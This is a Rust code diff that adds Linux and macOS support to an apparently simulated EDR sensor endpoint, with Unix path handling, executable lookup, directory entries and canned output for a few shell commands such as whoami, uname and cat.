-            out.push(entry_json(".", dir));
-            out.push(entry_json("..", dir));
+        if !dir_key.ends_with(sep) && matches(".") {
+            out.push(entry_json(".", dir, windows));
+            out.push(entry_json("..", dir, windows));
         }
         let mut children: Vec<&FsNode> = self.children(&dir_key).collect();
         children.sort_by_key(|n| n.name.to_lowercase());
         out.extend(
-            children.into_iter().filter(|n| glob(pattern, &n.name)).map(|n| entry_json(&n.name, n)),
+            children
+                .into_iter()
+                .filter(|n| matches(&n.name))
+                .map(|n| entry_json(&n.name, n, windows)),
         );
         if out.is_empty() {
             return Err(Hresult::FILE_NOT_FOUND);
@@ -942,15 +1529,14 @@ impl Endpoint {
     }
 
     fn children<'a>(&'a self, dir_key: &str) -> impl Iterator<Item = &'a FsNode> + 'a {
+        let sep = self.sep();
         let prefix =
-            if dir_key.ends_with('\\') { dir_key.to_owned() } else { format!("{dir_key}\\") };
+            if dir_key.ends_with(sep) { dir_key.to_owned() } else { format!("{dir_key}{sep}") };
+        let plen = prefix.len();
         self.fs
             .range(prefix.clone()..)
             .take_while(move |(k, _)| k.starts_with(&prefix))
-            .filter({
-                let plen = if dir_key.ends_with('\\') { dir_key.len() } else { dir_key.len() + 1 };
-                move |(k, _)| !k[plen..].contains('\\')
-            })
+            .filter(move |(k, _)| k.len() > plen && !k[plen..].contains(sep))
             .map(|(_, n)| n)
     }
 
@@ -972,7 +1558,7 @@ impl Endpoint {
                 }
                 key
             }
-            None => "c:\\windows\\carbonblack".to_owned(),
+            None => self.key(self.default_cwd()).ok_or(Hresult::DIRECTORY)?,
         };
         let (exe, args) = split_command_line(&command_line);
         let exe_key = self.resolve_exe(&exe, &cwd)?;
@@ -991,14 +1577,26 @@ impl Endpoint {
                 now,
                 &exe_key,
                 command_line,
-                "s-1-5-18",
-                "NT AUTHORITY\\SYSTEM",
+                if self.windows() { "s-1-5-18" } else { "" },
+                if self.windows() { "NT AUTHORITY\\SYSTEM" } else { "root" },
             );
         }
         Ok((pid, wait.then_some(rc)))
     }
 
+    /// The sensor's working directory (the session's `current_working_directory`, §3.1).
+    pub(crate) fn default_cwd(&self) -> &'static str {
+        match self.os {
+            SensorOs::Windows => "C:\\Windows\\CarbonBlack",
+            // Where the Linux and OS X sensors keep their data (inferred).
+            SensorOs::Linux | SensorOs::MacOs => "/var/lib/cb",
+        }
+    }
+
     fn resolve_exe(&self, exe: &str, cwd: &str) -> Result<String, Hresult> {
+        if !self.windows() {
+            return self.resolve_unix_exe(exe, cwd);
+        }
         let mut bases = Vec::new();
         if exe.contains('\\') || exe.contains(':') {
             bases.extend(self.resolve_relative(exe, cwd));
@@ -1026,8 +1624,108 @@ impl Endpoint {
         Err(Hresult::FILE_NOT_FOUND)
     }
 
+    /// `execve` semantics: a path is taken as is (relative to the working directory), a bare
+    /// name is looked up on the default `PATH`.
+    fn resolve_unix_exe(&self, exe: &str, cwd: &str) -> Result<String, Hresult> {
+        let candidates: Vec<String> = if exe.contains('/') {
+            self.resolve_relative(exe, cwd).into_iter().collect()
+        } else {
+            ["/usr/local/bin", "/usr/bin", "/bin", "/usr/sbin", "/sbin"]
+                .iter()
+                .map(|d| format!("{d}/{exe}"))
+                .collect()
+        };
+        for c in candidates {
+            if let Some(key) = self.key(&c) {
+                match self.fs.get(&key) {
+                    Some(n) if n.dir => return Err(Hresult::ACCESS_DENIED),
+                    Some(_) => return Ok(key),
+                    None => {}
+                }
+            }
+        }
+        Err(Hresult::FILE_NOT_FOUND)
+    }
+
+    /// A tiny model of a few Unix programs (Linux and macOS): `sh -c`, `whoami`, `id`,
+    /// `hostname`, `uname`, `cat`.
+    fn run_unix_program(&self, exe_key: &str, args: &str, cwd: &str) -> (String, i64, bool) {
+        let base = last_component(exe_key);
+        match base {
+            "sh" | "bash" | "zsh" => match args.trim_start().strip_prefix("-c") {
+                Some(rest) => {
+                    let (out, rc) = self.run_sh_builtin(unquote_any(rest.trim()), cwd);
+                    (out, rc, false)
+                }
+                None => (String::new(), 0, false),
+            },
+            "whoami" => ("root\n".into(), 0, false),
+            "id" => ("uid=0(root) gid=0(root) groups=0(root)\n".into(), 0, false),
+            "hostname" => (format!("{}\n", self.hostname), 0, false),
+            "uname" => (self.uname(args), 0, false),
+            "cat" => {
+                let mut out = String::new();
+                let mut rc = 0;
+                for target in args.split_whitespace() {
+                    match self
+                        .resolve_relative(target, cwd)
+                        .ok_or(Hresult::FILE_NOT_FOUND)
+                        .and_then(|p| self.read_file(&p))
+                    {
+                        Ok(c) => out.push_str(&String::from_utf8_lossy(&c.read(0, 1 << 20))),
+                        Err(_) => {
+                            out.push_str(&format!("cat: {target}: No such file or directory\n"));
+                            rc = 1;
+                        }
+                    }
+                }
+                (out, rc, false)
+            }
+            _ => (String::new(), 0, true),
+        }
+    }
+
+    fn uname(&self, args: &str) -> String {
+        let all = args.split_whitespace().any(|a| a == "-a");
+        match (self.os, all) {
+            (SensorOs::Linux, true) => format!(
+                "Linux {} 5.15.0-91-generic #101-Ubuntu SMP Tue Nov 14 13:30:08 UTC 2023 x86_64 x86_64 x86_64 GNU/Linux\n",
+                self.hostname
+            ),
+            (SensorOs::Linux, false) => "Linux\n".into(),
+            (_, true) => format!(
+                "Darwin {} 23.2.0 Darwin Kernel Version 23.2.0: Wed Nov 15 21:53:18 PST 2023; root:xnu-10002.61.3~2/RELEASE_X86_64 x86_64\n",
+                self.hostname
+            ),
+            (_, false) => "Darwin\n".into(),
+        }
+    }
+
+    fn run_sh_builtin(&self, line: &str, cwd: &str) -> (String, i64) {
+        let (word, rest) = match line.split_once(char::is_whitespace) {
+            Some((w, r)) => (w, r.trim_start()),
+            None => (line, ""),
+        };
+        match word {
+            "echo" => (format!("{rest}\n"), 0),
+            "exit" => (String::new(), rest.trim().parse().unwrap_or(0)),
+            "pwd" => (format!("{cwd}\n"), 0),
+            "" => (String::new(), 0),
+            other => match self.resolve_unix_exe(other, cwd) {
+                Ok(key) => {
+                    let (out, rc, _) = self.run_unix_program(&key, rest, cwd);
+                    (out, rc)
+                }
+                Err(_) => (format!("sh: 1: {other}: not found\n"), 127),
+            },
+        }
+    }
+
     /// Returns (stdout+stderr, exit code, keeps running when not waited for).
     fn run_program(&self, exe_key: &str, args: &str, cwd: &str) -> (String, i64, bool) {
+        if !self.windows() {
+            return self.run_unix_program(exe_key, args, cwd);
+        }
         let base = last_component(exe_key).trim_end_matches(".exe");
         match base {
             "cmd" => {
@@ -1069,7 +1767,8 @@ impl Endpoint {
             "ver" => ("\r\nMicrosoft Windows [Version 10.0.19045.3803]\r\n".into(), 0),
             "type" => {
                 let target = unquote(rest.trim());
-                let content = self.resolve_relative(target, cwd)
+                let content = self
+                    .resolve_relative(target, cwd)
                     .ok_or(Hresult::FILE_NOT_FOUND)
                     .and_then(|p| self.read_file(&p));
                 match content {
@@ -1299,10 +1998,16 @@ fn file_node(name: String, content: Content, t: i64, attrs: &'static [&'static s
 }
 
 /// §4.3 directory entry shape (`filename`, not DOC5's `name`).
-fn entry_json(name: &str, node: &FsNode) -> Value {
+/// On Linux and macOS there are no Windows attributes beyond `DIRECTORY` and no 8.3 names
+/// (inferred: the sensor reports what the platform has).
+fn entry_json(name: &str, node: &FsNode, windows: bool) -> Value {
     let mut attributes: Vec<&str> = node.extra_attrs.to_vec();
-    attributes.push(if node.dir { "DIRECTORY" } else { "ARCHIVE" });
-    let dots = name == "." || name == "..";
+    if node.dir {
+        attributes.push("DIRECTORY");
+    } else if windows {
+        attributes.push("ARCHIVE");
+    }
+    let dots = name == "." || name == ".." || !windows;
     json!({
         "attributes": attributes,
         "create_time": node.create_time,
@@ -1370,7 +2075,36 @@ pub(crate) fn norm_path(path: &str) -> Option<String> {
     Some(format!("{drive}:\\{}", parts.join("\\")))
 }
 
+/// Canonical node key of a Unix path: `/`-separated, `.`/`..` resolved, no trailing `/`
+/// except the root; with `fold_case`, lower-case (macOS's default case-insensitive volume).
+/// `None` for a relative path.
+fn norm_unix(path: &str, fold_case: bool) -> Option<String> {
+    let p = path.trim();
+    if !p.starts_with('/') {
+        return None;
+    }
+    let mut parts: Vec<String> = Vec::new();
+    for comp in p.split('/') {
+        match comp {
+            "" | "." => {}
+            ".." => {
+                parts.pop();
+            }
+            c if fold_case => parts.push(c.to_lowercase()),
+            c => parts.push(c.to_owned()),
+        }
+    }
+    Some(format!("/{}", parts.join("/")))
+}
+
 fn parent_key(key: &str) -> Option<String> {
+    if key.starts_with('/') {
+        if key == "/" {
+            return None;
+        }
+        let (parent, _) = key.rsplit_once('/')?;
+        return Some(if parent.is_empty() { "/".to_owned() } else { parent.to_owned() });
+    }
     let trimmed = key.strip_suffix('\\').unwrap_or(key);
     if trimmed.len() <= 2 {
         return None;
@@ -1383,10 +2117,11 @@ fn last_component(path: &str) -> &str {
     path.trim_end_matches(['\\', '/']).rsplit(['\\', '/']).next().unwrap_or(path)
 }
 
-
 /// Only A:, C: and D: exist (§3.1 `drives`); A: is an empty floppy drive.
 fn check_drive(key: &str) -> Result<(), Hresult> {
     match key.as_bytes().first() {
+        // Unix endpoints have one root.
+        Some(b'/') => Ok(()),
         Some(b'c' | b'd') => Ok(()),
         Some(b'a') => Err(Hresult::NOT_READY),
         _ => Err(Hresult::PATH_NOT_FOUND),
@@ -1436,6 +2171,16 @@ fn split_command_line(cmd: &str) -> (String, String) {
     }
 }
 
+/// Strips one level of single or double quotes (a shell's `-c '...'`).
+fn unquote_any(s: &str) -> &str {
+    for q in ['"', '\''] {
+        if let Some(inner) = s.strip_prefix(q).and_then(|s| s.strip_suffix(q)) {
+            return inner;
+        }
+    }
+    s
+}
+
 fn unquote(s: &str) -> &str {
     s.strip_prefix('"').and_then(|s| s.strip_suffix('"')).unwrap_or(s)
 }
@@ -1445,7 +2190,7 @@ mod tests {
     use super::*;
 
     fn ep() -> Endpoint {
-        Endpoint::new(1, "WIN-0001", 1024, 4096, 1_700_000_000)
+        Endpoint::new(1, "WIN-0001", &SensorSpec::default(), 1024, 4096, 1_700_000_000)
     }
 
     fn cmd(name: &str, object: Value, extra: Value) -> CommandInput {
